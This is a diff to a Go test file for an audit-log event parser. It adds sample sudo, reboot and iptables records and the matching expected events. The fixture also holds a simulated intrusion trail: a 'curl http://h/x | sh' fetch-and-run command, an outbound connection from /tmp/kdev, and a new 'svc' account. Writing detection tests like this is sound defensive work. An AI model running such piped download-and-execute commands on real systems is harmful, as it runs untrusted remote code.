@@ -16,6 +16,12 @@ node=shop type=SYSCALL msg=audit(1795374001.000:457): arch=c000003e syscall=42 s
 node=shop type=SOCKADDR msg=audit(1795374001.000:457): saddr=020001BBCB0071420000000000000000
 type=SOCKADDR msg=audit(1795374001.000:458): saddr=01002F72756E
 type=ADD_USER msg=audit(1795374002.000:459): pid=902 uid=0 auid=1000 ses=3 msg='op=adding user acct="svc" exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success'
+type=USER_CMD msg=audit(1795374003.000:460): pid=910 uid=1000 auid=1000 ses=3 subj=unconfined msg='cwd="/home/ops" cmd=69707461626C6573202D4C exe="/usr/bin/sudo" terminal=pts/0 res=success'
+type=USER_CMD msg=audit(1795374003.500:461): pid=911 uid=1000 auid=1000 ses=3 msg='cwd="/home/ops" cmd="reboot" terminal=pts/0 res=failed'
+type=NETFILTER_CFG msg=audit(1795374004.000:462): table=filter:42 family=2 entries=1 op=nft_register_rule pid=912 subj=unconfined comm="iptables"
+type=NETFILTER_CFG msg=audit(1795374004.000:462): table=filter:42 family=2 entries=1 op=nft_register_rule pid=912 subj=unconfined comm="iptables"
+type=SYSCALL msg=audit(1795374004.000:462): arch=c000003e syscall=46 success=yes pid=912 auid=1000 uid=0 comm="iptables" exe="/usr/sbin/xtables-nft-multi"
+type=PROCTITLE msg=audit(1795374004.000:462): proctitle=69707461626C6573002D4C
 nonsense
 `
 
@@ -37,6 +43,9 @@ func TestCollect(t *testing.T) {
 			Argv: []string{"sh", "-c", "curl http://h/x | sh"}},
 		{Kind: "audit-connect", Time: at.Add(time.Second), Serial: 457, Line: 4, PID: 901, UID: 0, Login: 1000, Exe: "/tmp/kdev", Comm: "kdev", Peer: "203.0.113.66:443"},
 		{Kind: "audit-user", Time: at.Add(2 * time.Second), Serial: 459, Line: 7, PID: 902, UID: 0, Login: 1000, Exe: "/usr/sbin/useradd", Op: "adding", Account: "svc"},
+		{Kind: "audit-command", Time: at.Add(3 * time.Second), Serial: 460, Line: 8, PID: 910, UID: 1000, Login: 1000, Exe: "/usr/bin/sudo", Command: "iptables -L"},
+		{Kind: "audit-firewall", Time: at.Add(4 * time.Second), Serial: 462, Line: 10, PID: 912, UID: 0, Login: 1000, Exe: "/usr/sbin/xtables-nft-multi",
+			Comm: "iptables", Op: "nft_register_rule", Command: "iptables -L"},
 	}
 	if d := cmp.Diff(want, collect(sample), cmp.AllowUnexported(Event{})); d != "" {
 		t.Error(d)
@@ -61,7 +70,7 @@ func FuzzCollect(f *testing.F) {
 	f.Add("type=EXECVE msg=audit(1.2:3): argc=9999999 a0=00")
 	f.Fuzz(func(t *testing.T, text string) {
 		for _, e := range collect(text) {
-			if e.Kind == "" || len(e.Argv) > maxArgs || !utf8.ValidString(e.Exe+e.Account+e.Op+strings.Join(e.Argv, "")) {
+			if e.Kind == "" || len(e.Argv) > maxArgs || !utf8.ValidString(e.Exe+e.Account+e.Op+e.Command+strings.Join(e.Argv, "")) {
 				t.Errorf("%+v", e)
 			}
 		}
